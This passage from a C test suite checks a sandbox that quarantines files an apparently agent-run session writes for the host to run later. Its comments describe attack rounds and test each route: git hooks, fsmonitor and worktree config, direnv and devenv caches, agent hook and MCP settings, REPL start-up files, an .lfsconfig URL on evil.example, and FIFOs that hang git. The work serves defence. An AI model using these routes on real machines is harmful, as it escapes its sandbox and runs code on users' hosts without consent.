	static const char *const want[] = {"/work/.githooks3/pre-commit: hook pre-commit",
					   "/work/c2/logs/refs/stash: a symbolic link inside a git directory", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "git -C work config extensions.worktreeConfig true && "
				 "git -C work config --worktree core.hooksPath .githooks3 && mkdir -p work/.githooks3 && "
				 "printf '#!/bin/sh\\nexit 0\\n' > work/.githooks3/pre-commit && chmod +x work/.githooks3/pre-commit",
				 NULL, NULL,
				 HOOK(".githooks3/pre-commit", "wtcfg") " && git init -q --bare c2 && rm c2/HEAD && "
				 "mv c2/objects objs2 && ln -s ../objs2 c2/objects && mkdir -p c2/logs/refs && "
				 "ln -s \"$M/stash2\" c2/logs/refs/stash",
				 GIT_USE("work") "echo done") == 0);
	expect_safe(&c, want);
	gcase_free(&c);
}

/*
 * Round 14 of the attack: a hooks directory swapped in for one staged
 * with a git directory's shape (HEAD, objects beside the hook) kept the
 * "new whole" rule off; a nested include was looked for beside the file
 * a link led to, git reads it beside the link (conf/team.cfg ->
 * ../x/team.cfg, `include.path = local.cfg` is conf/local.cfg).
 */
static void test_swapped_shapes_and_include_base(void)
{
	static const char *const want[] = {"/work/.githooks/pre-commit: hook pre-commit",
					   /* reached through a link made in the session:
					    * checked as a config written in it */
					   "/work/x/team.cfg: include.path", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "mkdir -p work/.githooks work/conf && printf '#!/bin/sh\\nexit 0\\n' > work/.githooks/pre-commit && "
				 "chmod +x work/.githooks/pre-commit && git -C work config core.hooksPath .githooks && "
				 "printf '[include]\\n\\tpath = local.cfg\\n' > work/conf/team.cfg && "
				 "git -C work config include.path ../conf/team.cfg",
				 NULL, NULL,
				 "mkdir -p stage/objects && echo 'ref: refs/heads/main' > stage/HEAD && "
				 HOOK("stage/pre-commit", "shaped"),
				 NULL) == 0);
	CU_ASSERT_FATAL(case_session(&c, NULL, NULL,
				     "mv .githooks old && mv stage .githooks && mv conf x && mkdir conf && "
				     "ln -s ../x/team.cfg conf/team.cfg && "
				     "printf '[core]\\n\\tfsmonitor = " PLANT("base") "\\n' > conf/local.cfg") == 0);
	CU_ASSERT(host_sh(&c, c.dir, GIT_USE("work") "echo done", &c.host) == 0);
	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/.githooks/HEAD"));
	gcase_free(&c);
}

/*
 * Round 9 of the attack: core.worktree was allowed in any git directory
 * whose path held "/modules/", so a repository planted at modules/lib
 * kept core.worktree = $HOME and a checkout on the host wrote a start-up
 * file there. It is a submodule's only in SUPER/.git/modules/NAME,
 * pointing into SUPER; a real submodule's config stays.
 */
static void test_modules_worktree(void)
{
	static const char *const want[] = {"/work/modules/lib/.git/config: core.worktree", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "mkdir -p modules/lib && cd modules/lib && git init -q && "
				 "echo 'touch \"$M/aliases\"' > .bash_aliases && git add .bash_aliases && "
				 "git -c user.name=a -c user.email=a@b commit -qm x && rm .bash_aliases && "
				 "git config core.worktree \"$HOME\" && cd ../.. && "
				 "git init -q nest && cd nest && mkdir -p .git/modules sub && "
				 "git init -q --separate-git-dir=.git/modules/sub sub && "
				 "git -C sub config core.worktree ../../../sub",
				 "(cd work/modules/lib && git checkout -- . >/dev/null 2>&1); "
				 "ls -a home; git -C work/nest/sub status >/dev/null 2>&1; echo done") == 0);
	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/modules/lib/.git/config.passavant-quarantine"));
	CU_ASSERT(exists(&c, "work/nest/.git/modules/sub/config"));
	CU_ASSERT(!test_has(c.err, "/work/nest/.git/modules/sub/config"));
	CU_ASSERT(c.host != NULL && !test_has(c.host, ".bash_aliases"));
	if (!exists(&c, "work/nest/.git/modules/sub/config") || test_has(c.host, ".bash_aliases"))
		show(&c);
	gcase_free(&c);
}

/* Round 5 of the attack: a settings file written in one session under
 * a harmless directory keeps its own ctime when the next session renames
 * that directory into a row's place (stage -> .vscode, cl -> .claude):
 * the renamed directory's change counts for what it holds. */
static void test_staged_settings_dir(void)
{
	static const char *const want[] = {"/work/sub/.vscode/tasks.json: ", "/work/sub/.claude/settings.json: ",
					   NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "mkdir -p sub/stage sub/cl && echo '{\"tasks\":[]}' > sub/stage/tasks.json && "
				 "echo '{\"hooks\":{}}' > sub/cl/settings.json",
				 NULL) == 0);
	expect_safe(&c, NULL);
	CU_ASSERT(!test_has(c.err, "quarantined"));
	CU_ASSERT_FATAL(case_session(&c, NULL, NULL, "mv sub/stage sub/.vscode && mv sub/cl sub/.claude") == 0);
	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/sub/.vscode/tasks.json.passavant-quarantine"));
	CU_ASSERT(!exists(&c, "work/sub/.vscode/tasks.json"));
	gcase_free(&c);
}

/* Round 5 of the attack: a git directory assembled over two sessions so
 * that neither sees a candidate (session 1: a lone config naming
 * core.fsmonitor, and objects/refs elsewhere; session 2: they are moved
 * in, HEAD written, a .git file points there and a gitlink to it is
 * added to the index), then `git status` on the host recursed into it.
 * The .git file written in session 2 activates its target: its config
 * is checked as new and moved aside; git status runs nothing. */
static void test_activated_gitdir(void)
{
	static const char *const want[] = {"/work/s1/gd/config: core.fsmonitor", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "mkdir -p s1/gd s1/parts && "
				 "printf '[core]\\n\\tfsmonitor = " PLANT("activated") "\\n' > s1/gd/config && "
				 "git init -q s1/tmp && mv s1/tmp/.git/objects s1/tmp/.git/refs s1/parts/ && rm -rf s1/tmp",
				 NULL) == 0);
	CU_ASSERT_FATAL(case_session(&c, NULL, NULL,
				     "mv s1/parts/objects s1/parts/refs s1/gd/ && "
				     "echo 'ref: refs/heads/master' > s1/gd/HEAD && mkdir sm && "
				     "echo 'gitdir: ../s1/gd' > sm/.git && "
				     "git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sm") == 0);
	CU_ASSERT(host_sh(&c, c.dir, "cd work && git status >/dev/null 2>&1; echo done", &c.host) == 0);
	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/s1/gd/config.passavant-quarantine"));
	gcase_free(&c);
}

/* Review of round 5: a .git file written in the session that points
 * where there is no git directory yet is moved aside (a later session
 * could assemble one there, and the file, old by then, would activate
 * nothing); one that points at the work tree's own long-standing .git
 * activates nothing: the user's hook there stays. */
static void test_dotgit_pointers(void)
{
	static const char *const want[] = {"/work/a/.git: gitdir: (points where there is no git directory yet)",
					   NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, HOOK("work/.git/hooks/pre-commit", "userhook") " && echo ok", NULL, NULL,
				 "mkdir -p a b && echo 'gitdir: ../nothere' > a/.git && echo 'gitdir: ../.git' > b/.git",
				 NULL) == 0);
	CU_ASSERT(test_has(c.err, want[0]));
	CU_ASSERT(exists(&c, "work/a/.git.passavant-quarantine"));
	CU_ASSERT(exists(&c, "work/.git/hooks/pre-commit"));
	CU_ASSERT(!test_has(c.err, "/work/.git/hooks/pre-commit"));
	if (!exists(&c, "work/.git/hooks/pre-commit") || !test_has(c.err, want[0]))
		show(&c);
	gcase_free(&c);
}

/* Round 5 of the attack: a settings file whose name is too long to take
 * the quarantine suffix (a 240-byte *.code-workspace) stayed in place;
 * it is moved aside to a short random name, and the report names it. */
static void test_long_name_quarantined(void)
{
	char name[300], script[800];
	struct gcase c;

	SKIP_IF_NEEDED();
	memset(name, 'A', 240);
	snprintf(name + 240, sizeof(name) - 240, ".code-workspace");
	snprintf(script, sizeof(script), "mkdir -p w && echo '{}' > w/%s && ls -A w | wc -l", name);
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL, script, "ls -A work/w") == 0);
	CU_ASSERT(test_has(c.err, name));
	CU_ASSERT(c.host != NULL && strstr(c.host, name) == NULL && strstr(c.host, ".passavant-quarantine.") != NULL);
	if (c.host == NULL || strstr(c.host, name) != NULL)
		show(&c);
	gcase_free(&c);
}

/* Finding 2: with HOME writable, the template directory the global
 * config names (init.templateDir), and git's config under a
 * $XDG_CONFIG_HOME other than ~/.config, cannot be written; `git init`
 * and `git commit` on the host run nothing. */
static void test_global_templates(void)
{
	char gc[PATH_MAX], xdg[PATH_MAX + 32];
	struct gcase c;

	SKIP_IF_NEEDED();
	snprintf(gc, sizeof(gc), "%s/home/.gitconfig", root);
	snprintf(xdg, sizeof(xdg), "XDG_CONFIG_HOME=%s/home/xdg", root);
	extra_env = xdg;
	CU_ASSERT_FATAL(run_case(&c,
				 "printf '[init]\n\ttemplateDir = ~/.git-templates\n' > \"$HOME/.gitconfig\" && "
				 "mkdir -p \"$HOME/xdg\"",
				 "filesystem:\n  allowWrite: [\".\", \"%s/../home\"]\n", NULL,
				 "mkdir -p ~/.git-templates/hooks; " HOOK("~/.git-templates/hooks/pre-commit", "tmpl")
				 "; mkdir -p ~/xdg/git; printf '[core]\\n\\tfsmonitor = " PLANT("xdg")
				 "\\n' > ~/xdg/git/config; echo xdg=$?",
				 "git init -q t && git -C t commit -q --allow-empty -m x >/dev/null 2>&1; "
				 "XDG_CONFIG_HOME=$HOME/xdg git -C work status >/dev/null 2>&1; echo done") == 0);
	extra_env = NULL;
	(void)unlink(gc);
	expect_safe(&c, NULL);
	CU_ASSERT(test_has(c.out, "xdg=") && !test_has(c.out, "xdg=0"));
	CU_ASSERT(access(gc, F_OK) < 0);
	snprintf(gc, sizeof(gc), "%s/home/.git-templates", root);
	CU_ASSERT(access(gc, F_OK) < 0);
	snprintf(gc, sizeof(gc), "%s/home/xdg/git", root);
	CU_ASSERT(access(gc, F_OK) < 0);
	gcase_free(&c);
}

/* Finding 4: settings that run commands, created in nested directories,
 * moved aside: a *.code-workspace, hook-manager configs, .envrc, MCP
 * configs of other agents; round 20: the hook files of Copilot CLI,
 * Cline, Factory, Codex, Auggie, Kiro's and Amazon Q's CLI agents (and
 * .github/hooks at the top, where no .github was: no placeholder
 * there, moved after the run). */
static void test_nested_settings_more(void)
{
	static const char *const want[] = {"/work/a/x.code-workspace: editor or agent settings",
					   "/work/a/.pre-commit-config.yaml: ", "/work/a/lefthook.yml: ",
					   "/work/a/.husky/pre-commit: ", "/work/a/.envrc: ",
					   "/work/a/.kiro/settings/mcp.json: ", "/work/a/.roo/mcp.json: ",
					   "/work/a/opencode.json: ", "/work/a/.claude/hooks/h.sh: ",
					   "/work/a/.codex/config.toml: ", "/work/a/.nvim.lua: ",
					   /* round 11: what the hooks run, by every name */
					   "/work/a/.lintstagedrc.json: ", "/work/a/lint-staged.config.mjs: ",
					   "/work/a/.huskyrc.yml: ", "/work/a/commitlint.config.js: ",
					   "/work/a/.lefthook-local/pre-commit: ", "/work/a/crush.json: ",
					   "/work/a/.envrc.local: ",
					   /* round 15: lefthook's other names, three
					    * more agents' MCP settings, at the top too */
					   "/work/a/.lefthook-local.yaml: ", "/work/a/lefthook.jsonc: ",
					   "/work/a/.config/lefthook-local.toml: ", "/work/a/.kilocode/mcp.json: ",
					   "/work/a/.junie/mcp/mcp.json: ", "/work/a/.amp/settings.json: ",
					   /* round 16: irb's and R's other start-up names, rustup's toolchain file */
					   "/work/a/_irbrc: ", "/work/a/.Renviron: ", "/work/a/.RData: ",
					   "/work/a/rust-toolchain.toml: ",
					   /* round 20: more agents' hook files */
					   "/work/a/.github/hooks/x.json: ", "/work/a/.clinerules/hooks/PreToolUse: ",
					   "/work/a/.factory/hooks.json: ", "/work/a/.factory/settings.json: ",
					   "/work/a/.codex/hooks.json: ", "/work/a/.augment/settings.json: ",
					   "/work/a/.kiro/agents/x.json: ", "/work/a/.amazonq/cli-agents/x.json: ",
					   "/work/.github/hooks/top.json: ", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "mkdir -p a/.husky a/.kiro/settings a/.roo a/.claude/hooks a/.codex a/.lefthook-local && "
				 "mkdir -p a/.config a/.kilocode a/.junie/mcp a/.amp && "
				 "mkdir -p a/.github/hooks a/.github/workflows a/.clinerules/hooks a/.factory a/.augment "
				 "a/.kiro/agents a/.amazonq/cli-agents .github/hooks && echo x > .github/hooks/top.json && "
				 "echo x > a/.github/workflows/ci.yml && "
				 "for f in .lefthook-local.yaml .lefthook.jsonc lefthook-local.jsonc; do "
				 "if echo x > $f 2>/dev/null; then echo TOP-WRITTEN $f; fi; done; "
				 "mkdir -p a/cmd && echo x > a/cmd/lefthook.go && echo x > a/lefthook.md && cd a && "
				 "for f in x.code-workspace .pre-commit-config.yaml lefthook.yml .husky/pre-commit "
				 ".envrc .kiro/settings/mcp.json .roo/mcp.json opencode.json .claude/hooks/h.sh "
				 ".codex/config.toml .nvim.lua .lintstagedrc.json lint-staged.config.mjs .huskyrc.yml "
				 "commitlint.config.js .lefthook-local/pre-commit crush.json .envrc.local "
				 ".lefthook-local.yaml lefthook.jsonc .config/lefthook-local.toml .kilocode/mcp.json "
				 ".junie/mcp/mcp.json .amp/settings.json _irbrc .Renviron .RData rust-toolchain.toml "
				 ".github/hooks/x.json .clinerules/hooks/PreToolUse .factory/hooks.json .factory/settings.json "
				 ".codex/hooks.json .augment/settings.json .kiro/agents/x.json .amazonq/cli-agents/x.json; "
				 "do echo x > $f; done; echo x > notes.md",
				 NULL) == 0);
	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/a/x.code-workspace.passavant-quarantine"));
	CU_ASSERT(exists(&c, "work/a/.github/hooks/x.json.passavant-quarantine"));
	CU_ASSERT(exists(&c, "work/.github/hooks/top.json.passavant-quarantine"));
	/* a project's own workflows are no row (.github is covered only on
	 * its hooks row) */
	CU_ASSERT(exists(&c, "work/a/.github/workflows/ci.yml") && !test_has(c.err, "ci.yml"));
	CU_ASSERT(exists(&c, "work/a/notes.md"));
	CU_ASSERT(!test_has(c.err, "notes.md"));
	/* lefthook's names at the top cannot be written at all; a project's
	 * own lefthook.go or lefthook.md is no config (review) */
	CU_ASSERT(!test_has(c.out, "TOP-WRITTEN"));
	CU_ASSERT(exists(&c, "work/a/cmd/lefthook.go") && exists(&c, "work/a/lefthook.md"));
	CU_ASSERT(!test_has(c.err, "lefthook.go") && !test_has(c.err, "lefthook.md"));
	gcase_free(&c);
}

/* Round 3 of the attack: start-up files that debuggers, REPLs and
 * editors also read from the current directory, Mercurial's repository
 * config and mise's other names, created in a nested directory and in a
 * nested repository, are moved aside; mise.*.toml is a name pattern. */
static void test_nested_startup_files(void)
{
	static const char *const want[] = {
	    "/work/a/.pdbrc: ",           "/work/a/.vimrc: ",          "/work/a/.gdbinit: ",
	    "/work/a/.Rprofile: ",        "/work/a/.irbrc: ",          "/work/a/.dir-locals.el: ",
	    "/work/a/mise.local.toml: ",  "/work/a/mise.dev.toml: ",   "/work/a/.mise/config.toml: ",
	    "/work/a/.config/mise.toml: ", "/work/a/.hg/hgrc: Mercurial repository settings",
	    "/work/r/.pdbrc: ",           "/work/r/.mise.ci.toml: ",   "/work/a/mise/config.ci.toml: ",
	    "/work/a/.lldbinit: ",        "/work/a/_exrc: ",           "/work/a/.rtx.dev.toml: ",
	    "/work/a/.tool-versions: ",
	    NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "mkdir -p a/.mise a/.config a/.hg a/mise r && git init -q r && cd a && "
				 "for f in .pdbrc .vimrc .gdbinit .Rprofile .irbrc .dir-locals.el "
				 "mise.local.toml mise.dev.toml .mise/config.toml .config/mise.toml .hg/hgrc "
				 "mise/config.ci.toml .lldbinit _exrc .rtx.dev.toml .tool-versions; "
				 "do echo x > $f; done; echo x > mise.txt; echo x > mise/notes.txt; echo x > ../r/.pdbrc; "
				 "echo x > ../r/.mise.ci.toml",
				 NULL) == 0);
	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/a/.pdbrc.passavant-quarantine"));
	CU_ASSERT(exists(&c, "work/a/mise.dev.toml.passavant-quarantine"));
	CU_ASSERT(exists(&c, "work/a/mise.txt"));
	CU_ASSERT(!test_has(c.err, "mise.txt"));
	CU_ASSERT(exists(&c, "work/a/mise/notes.txt"));
	CU_ASSERT(!test_has(c.err, "notes.txt"));
	gcase_free(&c);
}

/* Round 36 of the attack (f2-f5): members of the row families under
 * names no row had: mise's idiomatic version files (a path: version, as
 * in .tool-versions), start-up files of other REPLs read from the
 * current directory (.ocamlinit, .iex.exs, .psysh.php, as .ghci),
 * Sapling's repository config (.sl/config, and .git/sl/config in a Git
 * repository, as .hg/hgrc), IDE project files that run programs
 * (JetBrains' .run/, Eclipse's .project and .externalToolBuilders/, as
 * .idea/), Copilot's custom agents and skills (.github/agents,
 * .github/skills, as .claude/agents and skills), the Agent Skills
 * standard's .agents/skills. Made at the top or nested, each is moved aside (a directory
 * of an earlier session renamed to .externalToolBuilders too: its file's
 * ctime is older, it stayed on 0726796); an existing one at the top is
 * read-only; .git/sl cannot be made. Every line failed on 637203f (all
 * stayed, .go-version was written, .git/sl made). */
static void test_round36_rows(void)
{
	static const char *const want[] = {
	    "/work/.python-version: ",	     "/work/.nvmrc: ",		  "/work/.ocamlinit: ",
	    "/work/.iex.exs: ",		     "/work/.psysh.php: ",	  "/work/.project: ",
	    "/work/.run/App.run.xml: ",	     "/work/.externalToolBuilders/b.launch: ",
	    "/work/.sl/config: ",	     "/work/a/.node-version: ",	  "/work/a/.ruby-version: ",
	    "/work/a/.ocamlinit: ",	     "/work/a/.sl/config: ",	  "/work/a/.run/App.run.xml: ",
	    "/work/a/.project: ",	     "/work/.github/agents/e.agent.md: ",
	    "/work/a/.github/skills/x/SKILL.md: ", "/work/a/.agents/skills/y/SKILL.md: ", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, "echo 3.12 > work/.go-version && git -C work add .go-version && "
				     "git -C work commit -qm v && mkdir work/stage && echo x > work/stage/b.launch",
				 NULL, NULL,
				 "mkdir -p .sl .run a/.sl a/.run .github/agents a/.github/skills/x && "
				 "mv stage .externalToolBuilders && echo x > .github/agents/e.agent.md && "
				 "echo x > a/.github/skills/x/SKILL.md && mkdir -p a/.agents/skills/y && "
				 "echo x > a/.agents/skills/y/SKILL.md && "
				 "for f in .python-version .nvmrc .ocamlinit .iex.exs .psysh.php .project "
				 ".run/App.run.xml .sl/config a/.node-version "
				 "a/.ruby-version a/.ocamlinit a/.sl/config a/.run/App.run.xml a/.project; "
				 "do echo path:/x > $f; done; echo x > a/notes.md; "
				 "if echo path:/x > .go-version 2>/dev/null; then echo TOP-WRITTEN; fi; "
				 "if mkdir .git/sl 2>/dev/null; then echo SL-MADE; fi",
				 NULL) == 0);
	expect_safe(&c, want);
	CU_ASSERT(!test_has(c.out, "TOP-WRITTEN") && !test_has(c.out, "SL-MADE"));
	CU_ASSERT(exists(&c, "work/.python-version.passavant-quarantine"));
	CU_ASSERT(exists(&c, "work/.go-version") && !exists(&c, "work/.git/sl"));
	/* each line says what the row says runs, not only its kind (review
	 * of round 36: a version file reported as "editor or agent
	 * settings") */
	ROW(test_has(c.err, ".nvmrc.passavant-quarantine): mise (idiomatic version file): a path: version puts a "
			    "directory on PATH"),
	    "the .nvmrc line does not say what the row says runs: %s", test_nz(c.err));
	CU_ASSERT(exists(&c, "work/a/notes.md") && !test_has(c.err, "notes.md"));
	gcase_free(&c);
}

/*
 * Round 37 of the attack: direnv's layout directory. With nix-direnv
 * (`use flake` in an allowed, unchanged .envrc), direnv evals
 * .direnv/flake-profile.rc at every cd when it is newer than .envrc,
 * flake.nix and flake.lock, without asking (nix-direnv's direnvrc,
 * use_flake: `eval "$(< "$profile_rc")"`); `layout python` puts
 * .direnv/python-X/bin first on PATH. The session rewrote neither
 * .envrc nor the flake, only the cache: a new one at the top and nested
 * stayed, and the host's next cd ran it (its rule is played here by sh:
 * no direnv nor nix on this machine). Now .direnv is a row: an existing
 * one is read-only at the top, one made or changed nested is moved
 * aside; an old one the session left alone stays.
 */
static void test_direnv_layout(void)
{
	static const char *const want[] = {"/work/a/.direnv/flake-profile.rc: ", "/work/.direnv/flake-profile.rc: ",
					   "/work/b/.direnv/python-3.11/bin/python: ", NULL};
	/* nix-direnv's use_flake, as sh: the cache is used when it exists
	 * and nothing it watches is newer. */
	static const char host[] =
		"for d in work work/a; do (cd $d && if [ -e .direnv/flake-profile ] && "
		"[ -e .direnv/flake-profile.rc ] && ! [ .envrc -nt .direnv/flake-profile.rc ] && "
		"! [ flake.nix -nt .direnv/flake-profile.rc ]; then eval \"$(cat .direnv/flake-profile.rc)\"; fi); done; "
		"[ -x work/b/.direnv/python-3.11/bin/python ] && work/b/.direnv/python-3.11/bin/python; true";
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "mkdir -p work/old/.direnv/python-3.11/bin work/top && "
				 "echo 'export X=1' > work/old/.direnv/python-3.11/bin/activate && "
				 "for d in work work/a; do mkdir -p $d && echo 'use flake' > $d/.envrc && "
				 "echo '{}' > $d/flake.nix; done",
				 NULL, NULL,
				 "mkdir -p .direnv a/.direnv b/.direnv/python-3.11/bin && "
				 "for d in . a; do touch $d/.direnv/flake-profile && "
				 "printf 'touch \"$M/direnv-rc-%s\"\\n' $d > $d/.direnv/flake-profile.rc; done; "
				 "printf '#!/bin/sh\\ntouch \"$M/direnv-python\"\\n' > b/.direnv/python-3.11/bin/python && "
				 "chmod +x b/.direnv/python-3.11/bin/python; echo done",
				 host) == 0);
	expect_safe(&c, want);
	ROW(markers(&c)[0] == '\0', "the host's cd ran the session's direnv cache or layout: %s", markers(&c));
	ROW(exists(&c, "work/old/.direnv/python-3.11/bin/activate") && !test_has(c.err, "/work/old/"),
	    "an old .direnv the session left alone was moved or named: %s", test_nz(c.err));
	gcase_free(&c);
}

/*
 * Round 38 of the attack, direnv's family (state a protected settings
 * file runs without asking): devenv.sh's .devenv/. `use devenv` in an
 * allowed .envrc (devenv's direnvrc) and `devenv shell` take the shell
 * environment from .devenv's eval cache (nix-eval-cache.db) while what
 * it watches is unchanged, and put .devenv/profile/bin first on PATH;
 * devenv.local.nix and devenv.local.yaml, imported beside devenv.nix
 * (an enterShell runs at the next cd, no allow asked), are git-ignored
 * by `devenv init`. The session wrote them at the top and nested: all
 * stayed, unnamed (the host's rule played by sh: no devenv nor nix
 * here). Now they are rows as .direnv: an existing .devenv is read-only
 * at the top, one made or changed is moved aside; an old one the
 * session left alone stays.
 */
static void test_devenv_state(void)
{
	static const char *const want[] = {"/work/.devenv/nix-eval-cache.db: ", "/work/a/.devenv/profile/bin/ls: ",
					   "/work/devenv.local.nix: ", "/work/b/devenv.local.yaml: ",
					   "/work/top/.devenv/nix-eval-cache.db: ", NULL};
	static const char host[] =
		"for d in work work/a; do (cd $d && [ -e .devenv/nix-eval-cache.db ] && "
		"eval \"$(cat .devenv/nix-eval-cache.db)\"; PATH=$PWD/.devenv/profile/bin:$PATH; ls >/dev/null); done; "
		"for f in work/devenv.local.nix work/b/devenv.local.yaml; do [ -e $f ] && sh $f; done; true";
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "mkdir -p work/old/.devenv/profile/bin && echo 'x' > work/old/.devenv/nix-eval-cache.db && "
				 "mkdir -p work/top/.devenv && echo 'x' > work/top/.devenv/nix-eval-cache.db",
				 NULL, NULL,
				 "mkdir -p .devenv a/.devenv/profile/bin b && "
				 "printf 'touch \"$M/devenv-cache\"\\n' > .devenv/nix-eval-cache.db && "
				 "printf '#!/bin/sh\\ntouch \"$M/devenv-ls\"\\n' > a/.devenv/profile/bin/ls && "
				 "chmod +x a/.devenv/profile/bin/ls && "
				 "printf 'touch \"$M/devenv-local-nix\"\\n' > devenv.local.nix && "
				 "printf 'touch \"$M/devenv-local-yaml\"\\n' > b/devenv.local.yaml; "
				 "echo y > top/.devenv/nix-eval-cache.db; echo done",
				 host) == 0);
	expect_safe(&c, want);
	ROW(markers(&c)[0] == '\0', "the host ran the session's devenv state or override: %s", markers(&c));
	ROW(exists(&c, "work/old/.devenv/nix-eval-cache.db") && !test_has(c.err, "/work/old/"),
	    "an old .devenv the session left alone was moved or named: %s", test_nz(c.err));
	gcase_free(&c);
}

/*
 * Round 42 of the attack, .envrc's family: the other shell hooks that
 * source a file of the directory the shell enters (or leaves) once the
 * user said yes to it, as direnv's allow: RVM's .rvmrc, zsh-autoenv's
 * .autoenv.zsh and .autoenv_leave.zsh, autoenv's .env.leave. Written
 * at the top and nested, all stayed, unnamed (the host's rule played by
 * sh). Now rows as .direnv: one made in the session is moved aside.
 */
static void test_cd_hook_files(void)
{
	static const char *const want[] = {"/work/.rvmrc: ", "/work/a/.autoenv.zsh: ", "/work/b/.autoenv_leave.zsh: ",
					   "/work/c/.env.leave: ", NULL};
	static const char host[] = "for f in work/.rvmrc work/a/.autoenv.zsh work/b/.autoenv_leave.zsh "
				   "work/c/.env.leave; do [ -e $f ] && sh $f; done; true";
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "mkdir -p a b c && printf 'touch \"$M/rvmrc\"\\n' > .rvmrc && "
				 "printf 'touch \"$M/autoenv-zsh\"\\n' > a/.autoenv.zsh && "
				 "printf 'touch \"$M/autoenv-leave-zsh\"\\n' > b/.autoenv_leave.zsh && "
				 "printf 'touch \"$M/env-leave\"\\n' > c/.env.leave; echo done",
				 host) == 0);
	expect_safe(&c, want);
	ROW(markers(&c)[0] == '\0', "the host's cd hooks ran the session's files: %s", markers(&c));
	gcase_free(&c);
}

/*
 * Round 45 of the attack: files at the top of a work tree that git's
 * companions read at the user's own git operations, on no row. gitlint's
 * commit-msg hook reads .gitlint from the directory it runs in and
 * imports the Python rules its [general] extra-path names; git-lfs's
 * pre-push hook and smudge filter read .lfsconfig's lfs.url (objects and
 * credentials go there); git-review fetches the commit-msg hook it
 * installs from .gitreview's host. Written in the session (at the top,
 * and a nested .lfsconfig), each stayed, status 0, no line; the host's
 * tools are played by python3 (gitlint's reading of extra-path) and git
 * config (the INI files git-lfs and git-review read). Now rows as the
 * hook managers': one made in the session is moved aside, an existing
 * one is read-only.
 */
static void test_git_companion_configs(void)
{
	static const char *const want[] = {"/work/.gitlint: ", "/work/.lfsconfig: ", "/work/sub/.lfsconfig: ", NULL};
	static const char setup[] =
		"cat > gitlint.py <<'EOF'\n"
		"import configparser, importlib, os, sys\n"
		"c = configparser.ConfigParser()\n"
		"c.read('.gitlint')\n"
		"p = c.get('general', 'extra-path', fallback=None)\n"
		"if p:\n"
		"    sys.path.insert(0, p)\n"
		"    for f in sorted(os.listdir(p)):\n"
		"        if f.endswith('.py'):\n"
		"            importlib.import_module(f[:-3])\n"
		"EOF\n"
		"printf '[gerrit]\\nhost=review.example.org\\nproject=p.git\\n' > work/.gitreview && "
		"git -C work add .gitreview && git -C work commit -q -m gerrit";
	static const char host[] =
		"cd work && python3 ../gitlint.py; "
		"[ -n \"$(git config -f .lfsconfig lfs.url)\" ] && touch \"$M/lfsconfig\"; "
		"[ -n \"$(git config -f sub/.lfsconfig lfs.url)\" ] && touch \"$M/sub-lfsconfig\"; "
		"[ \"$(git config -f .gitreview gerrit.host)\" = evil.example ] && touch \"$M/gitreview\"; true";
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, setup, NULL, NULL,
				 "mkdir -p rules sub && "
				 "printf 'import os\\nopen(os.environ[\"M\"] + \"/gitlint-rules\", \"w\")\\n' > rules/r.py && "
				 "printf '[general]\\nextra-path=rules\\n' > .gitlint && "
				 "printf '[lfs]\\n\\turl = https://lfs.evil.example/x\\n' > .lfsconfig && "
				 "printf '[lfs]\\n\\turl = https://lfs.evil.example/y\\n' > sub/.lfsconfig && "
				 "{ printf '[gerrit]\\nhost=evil.example\\n' > .gitreview || echo 'RO .gitreview'; } "
				 "2>/dev/null; echo done",
				 host) == 0);
	expect_safe(&c, want);
	ROW(markers(&c)[0] == '\0', "the host's git companions read the session's configs: %s", markers(&c));
	ROW(test_has(c.out, "RO .gitreview"), "the existing .gitreview was writable: %s", test_nz(c.out));
	ROW(exists(&c, "work/.gitreview") && !test_has(c.err, "/work/.gitreview"),
	    "the user's .gitreview, left alone, was moved or named: %s", test_nz(c.err));
	gcase_free(&c);
}

/*
 * Round 45 of the attack: a FIFO left in the work tree at a name the
 * host's tools open. `mkfifo .gitignore` (or sub/.gitattributes) in the
 * session: the host's next `git status` waited for ever in open(), and
 * so does every shell prompt that shows it; `.editorconfig` as a FIFO
 * hangs the editors that read it. Status 0, no line: only a .env FIFO
 * was moved (round 36). Now every FIFO or device node made in the
 * session in a work tree is moved aside; one the user had before stays,
 * unnamed. A socket stays since round 46 (test_sandbox_trees.c).
 */
static void test_work_tree_fifos(void)
{
	static const char *const want[] = {"/work/.gitignore: a FIFO or device node made in the session",
					   "/work/sub/.gitattributes: a FIFO", "/work/.editorconfig: a FIFO", NULL};
	static const char host[] =
		"cd work && timeout 10 git status --porcelain >/dev/null 2>&1; [ $? -eq 124 ] && touch \"$M/status-hung\"; "
		"[ -p .editorconfig ] && touch \"$M/editorconfig-fifo\"; true";
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, "mkfifo work/old.fifo", NULL, NULL,
				 "mkdir -p sub run && mkfifo .gitignore sub/.gitattributes .editorconfig && "
